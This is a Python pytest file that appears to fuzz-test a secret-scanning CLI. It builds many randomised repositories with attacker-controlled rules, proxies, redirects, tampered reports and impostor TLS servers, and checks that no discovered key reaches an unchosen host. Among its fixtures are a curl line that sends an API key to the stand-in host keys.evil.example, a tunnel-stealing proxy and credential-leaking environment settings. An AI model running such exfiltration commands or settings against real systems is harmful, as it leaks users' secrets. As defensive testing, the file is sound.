"""No key to a host that neither the user chose nor the installed rules name, whatever surrounds the scan.

A thousand runs of the command line in repositories, environments and networks that a seeded generator makes
hostile. Every name leads to loopback: those of issuers to listeners that play them, all others to a trap.
"""

from __future__ import annotations

import base64
import io
import json
import random
import socket
from contextlib import ExitStack
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import anyio
import pytest

from keyleak.cli import main
from keyleak.errors import ExitCode
from keyleak.rulebook.loader import load_rulebook
from keyleak.rulebook.template import expand
from verification.server import Authority, answer, error, live, serving

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from verification.server import Seen, Server

RUNS = 1000
SEED = 20261128
ISSUERS = {issuer.issuer: issuer.verify.url for issuer in load_rulebook().issuers if issuer.verify}
EVIL = "keys.evil.example"

LINES = (
    "FLORA_API_KEY=sk_live_${base62:42}",
    "FLORA_API_KEY=sk_test_${base62:32}",
    "FLORA_API_KEY=${base62:40}",
    "STRIPE_SECRET_KEY=sk_live_51${base62:97}",
    "PAYSTACK_SECRET_KEY=sk_live_${hex:40}",
    "CLERK_SECRET_KEY=sk_live_${base62:42}",
    "EVIL_API_KEY=sk_live_${base62:42}",
    f"curl https://{EVIL}/v1 -H 'x-flora-api-key: sk_live_${{base62:42}}'",
    f"FLORA_BASE_URL=https://{EVIL}\nFLORA_API_KEY=sk_live_${{base62:42}}",
)
RULE = """issuer: {issuer}
name: {issuer}
homepage: https://{host}
docs: https://{host}/docs
keys:
  - id: {issuer}-key
    description: a key
    found_by: prefix
    prefixes: [{prefix}]
    pattern: '[A-Za-z0-9]{{32,64}}'
    environment: live
    strength: decisive
    min_entropy: 2.2
    severity: {{live: critical, test: medium, unknown: high}}
    examples: ['{name}={prefix}${{base62:42}}']
    counter_examples: []
context:
  strong:
    names: [{name}]
    hosts: [{host}]
verify:
  keys: [{issuer}-key]
  method: GET
  url: https://{host}/v1
  auth: bearer
  verdicts:
    - {{status: 200, verdict: live}}
    - {{status: 401, verdict: not-accepted}}
  limits: {{requests_per_second: 5, at_once: 2}}
runbook: null
samples: []
"""


class Network:
    """Where names lead, and what arrived there."""

    def __init__(self, authority: Authority, stack: ExitStack) -> None:
        self.respond: Callable[[], bytes] = live
        hosts = {str(urlsplit(url).hostname) for url in ISSUERS.values()}
        self.issuers = {
            host: stack.enter_context(serving(self._answer, authority.context_for(host))) for host in hosts
        }
        self.chosen = stack.enter_context(serving(self._answer))
        self.trap = stack.enter_context(serving(self._answer))
        self.tls_trap = stack.enter_context(serving(self._answer, authority.context_for(EVIL, "localhost")))
        self.proxy = stack.enter_context(serving(self._tunnel))
        self.impostors = False
        self.asked: list[str] = []

    def _answer(self, _seen: Seen, _connection: socket.socket) -> bytes:
        return self.respond()

    def _tunnel(self, seen: Seen, connection: socket.socket) -> bytes | None:
        if not seen.head.startswith(b"CONNECT"):
            return self.respond()
        # It claims to open a tunnel and keeps what comes through it.
        connection.sendall(b"HTTP/1.1 200 OK\r\n\r\n")
        self.proxy.received += connection.recv(65536)
        return None

    def port(self, host: str, port: int) -> int:
        """The port that a name and a port lead to."""
        self.asked.append(host)
        ours = {self.chosen.port, self.proxy.port}
        if host in {"127.0.0.1", "localhost", "proxy.example"} and port in ours:
            return port
        if host in self.issuers:
            return self.tls_trap.port if self.impostors else self.issuers[host].port
        return self.tls_trap.port if port == 443 else self.trap.port

    def traps(self) -> list[Server]:
        return [self.trap, self.tls_trap, self.proxy]


@pytest.fixture
def network(authority: Authority, monkeypatch: pytest.MonkeyPatch) -> Iterator[Network]:
    real_connect = socket.socket.connect
    real_open = anyio.connect_tcp

    async def open_connection(remote_host: str, remote_port: int, **given: Any) -> Any:
        return await real_open("127.0.0.1", made.port(str(remote_host), remote_port), **given)

    def connect(self: socket.socket, address: Any) -> None:
        assert self.family == socket.AF_UNIX or address[0] == "127.0.0.1", address
        real_connect(self, address)

    with ExitStack() as stack:
        made = Network(authority, stack)
        # The one place where the HTTP library opens a connection; anything else must stay on loopback.
        monkeypatch.setattr(anyio, "connect_tcp", open_connection)
        monkeypatch.setattr(socket.socket, "connect", connect)
        # No pace is kept here, which would be all that it waits for.
        monkeypatch.setattr("keyleak.verification.retry.backoff", lambda _attempt, _random: 0.0)
        monkeypatch.setattr("keyleak.verification.rate.Pace.turn", at_once)
        yield made


async def at_once(_pace: object) -> None:
    """A turn that comes at once."""


class World:
    """One repository with its surroundings, made by chance."""

    def __init__(self, chance: random.Random, folder: Path, network: Network, authority: Authority) -> None:
        self.chance = chance
        self.network = network
        self.authority = authority
        self.folder = folder
        self.seed = chance.randrange(1 << 30)
        self.keys: list[str] = []

    def build(self) -> tuple[list[str], dict[str, str], str]:
        """Files, and then the arguments, the environment and the input of a run."""
        chance = self.chance
        lines = [
            expand(line, self.seed + at)
            for at, line in enumerate(chance.sample(LINES, 1 + (chance.random() < 0.1)))
        ]
        self.keys = [
            word
            for line in lines
            for word in line.replace("=", " ").replace("'", " ").split()
            if len(word) > 30
        ]
        (self.folder / "app.env").write_text("\n\n\n\n".join(lines) + "\n")
        self._configuration()
        arguments, typed = self._command(lines)
        return arguments, self._environment(), typed

    def _configuration(self) -> None:
        chance, folder = self.chance, self.folder
        rules = folder / "rules"
        if chance.random() < 0.5:
            rules.mkdir()
            prefix, issuer, name = chance.choice(
                [("evil_live_", "evil", "EVIL_API_KEY"), ("sk_live_", "flora2", "FLORA_API_KEY")]
            )
            rule = RULE.format(issuer=issuer, host=EVIL, prefix=prefix, name=name)
            (rules / "evil.yaml").write_text(rule if chance.random() < 0.8 else rule.partition("verify:")[0])
        entries = [
            "version: 1",
            "rules: [rules]" if rules.exists() and chance.random() < 0.8 else "",
            chance.choice(["", f"verify: {{endpoint: https://{EVIL}}}", f"endpoint: flora=https://{EVIL}"]),
        ]
        if chance.random() < 0.5:
            (folder / ".keyleak.yaml").write_text("\n".join(entry for entry in entries if entry) + "\n")

    def _command(self, lines: list[str]) -> tuple[list[str], str]:
        chance = self.chance
        consent = ["--yes"] if chance.random() < 0.9 else []
        if chance.random() < 0.5:
            consent += ["--endpoint", f"flora={self.network.chosen.url}", "--rate", "1000"]
        match chance.randrange(4):
            case 0:
                return ["scan", ".", "--verify", *consent], ""
            case 1:
                return ["verify", *consent], ""
            case 2:
                line = chance.choice(lines).splitlines()[-1]
                issuer = ["--issuer", chance.choice([*ISSUERS, "evil"])] * chance.randrange(2)
                return ["verify", "--stdin", *issuer, *consent], line
            case _:
                return ["verify", "report.json", *consent], ""

    def report(self) -> None:
        """A saved report of the folder, edited by somebody who wants the keys."""
        chance = self.chance
        main(["scan", "app.env", "--format", "json:report.json"])
        saved = json.loads((self.folder / "report.json").read_text())
        saved["scan"]["target"] = chance.choice([".", "app.env", f"https://{EVIL}/x.git", "/"])
        for finding in saved["findings"]:
            issuer = chance.choice([*ISSUERS, "evil", "flora2"])
            evidence = [f"it is sent to {EVIL}"]
            edits = (
                ("issuer", issuer),
                ("rule", f"{issuer}-api-key"),
                ("attribution", {
                    "verdict": "attributed", "confidence": "high", "evidence": evidence,
                    "candidates": [{"issuer": issuer, "evidence": evidence}],
                }),
                ("verification", {
                    "verdict": "live", "host": EVIL, "request_id": None,
                    "checked_at": None, "detail": f"https://{EVIL}",
                }),
            )  # fmt: skip
            for name, value in chance.sample(edits, chance.randrange(len(edits) + 1)):
                finding[name] = value
        (self.folder / "report.json").write_text(json.dumps(saved))

    def _environment(self) -> dict[str, str]:
        chance, network = self.chance, self.network
        proxy = f"http://proxy.example:{network.proxy.port}"
        (self.folder / ".netrc").write_text(f"default login {EVIL} password x\n")
        choices = {
            "https_proxy": proxy,
            "HTTPS_PROXY": f"user:word@proxy.example:{network.proxy.port}",
            "http_proxy": proxy,
            "ALL_PROXY": proxy,
            "NO_PROXY": chance.choice(["*", "localhost", EVIL]),
            "SSLKEYLOGFILE": str(self.folder / "keys.log"),
            "NETRC": str(self.folder / ".netrc"),
            "HOME": str(self.folder),
            "KEYLEAK_ENDPOINT": f"flora=https://{EVIL}",
            "KEYLEAK_RULES": str(self.folder / "rules"),
        }
        named = {name: value for name, value in choices.items() if chance.random() < 0.35}
        # Without these authorities no issuer's listener is believed: TLS must end it.
        if chance.random() < 0.7:
            named["SSL_CERT_FILE"] = str(self.authority.file)
        return named

    def answers(self) -> Callable[[], bytes]:
        """What every server says."""
        trap = f"{self.chance.choice(['http', 'https'])}://{EVIL}/{{}}"
        bodies = [
            live(),
            error(401, "invalid_api_key"),
            answer(301, {}, f"location: {trap}"),
            answer(307, {}, f"location: http://127.0.0.1:{self.network.trap.port}/"),
            answer(308, {}, f"location: //{EVIL}/"),
            answer(200, {"workspaces": []}, f'alt-svc: h2="{EVIL}:443"; ma=9999', "set-cookie: a=b; Path=/"),
            answer(401, {}, 'www-authenticate: Basic realm="again"', f"link: <{trap}>; rel=next"),
            answer(407, {}, 'proxy-authenticate: Basic realm="x"'),
            answer(200, b"<meta http-equiv=refresh>", f"refresh: 0; url={trap}", kind="text/html"),
            b"HTTP/1.1 100 Continue\r\n\r\n" + live(),
            b"nonsense\r\n\r\n",
        ]
        chosen = self.chance.choice(bodies)
        return lambda: chosen


@pytest.mark.slow
def test_no_key_goes_to_a_host_that_nobody_chose(
    network: Network,
    authority: Authority,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    chance = random.Random(SEED)
    sent = 0
    codes = set()
    for number in range(RUNS):
        folder = tmp_path / str(number)
        folder.mkdir()
        world = World(chance, folder, network, authority)
        arguments, environment, typed = world.build()
        network.respond = world.answers()
        network.impostors = chance.random() < 0.2
        with monkeypatch.context() as patch:
            patch.chdir(folder)
            for name in ("https_proxy", "http_proxy", "all_proxy", "no_proxy"):
                for spelled in (name, name.upper()):
                    patch.delenv(spelled, raising=False)
            if "report.json" in arguments:
                world.report()
            for name, value in environment.items():
                patch.setenv(name, value)
            patch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(typed.encode()), encoding="utf-8"))
            codes.add(main(arguments))
        said = "".join(capsys.readouterr())
        for key in world.keys:
            forms = (key.encode(), base64.b64encode(f"{key}:".encode()), base64.b64encode(key.encode()))
            for server in network.traps():
                assert not any(form in server.received for form in forms), (number, arguments, said)
            if network.impostors:
                continue
            heard = [
                server for server in (*network.issuers.values(), network.chosen)
                if any(form in server.received for form in forms)
            ]  # fmt: skip
            assert len(heard) <= 1, (number, arguments, said)
            sent += len(heard)
        for server in (*network.traps(), *network.issuers.values(), network.chosen):
            server.received.clear()
        assert not (folder / "keys.log").exists()
    # It is alive: keys went to those whom they belong to, and every kind of ending was met.
    assert sent > RUNS // 10
    assert {ExitCode.FINDINGS, ExitCode.INCOMPLETE} <= codes <= {0, 1, 2}
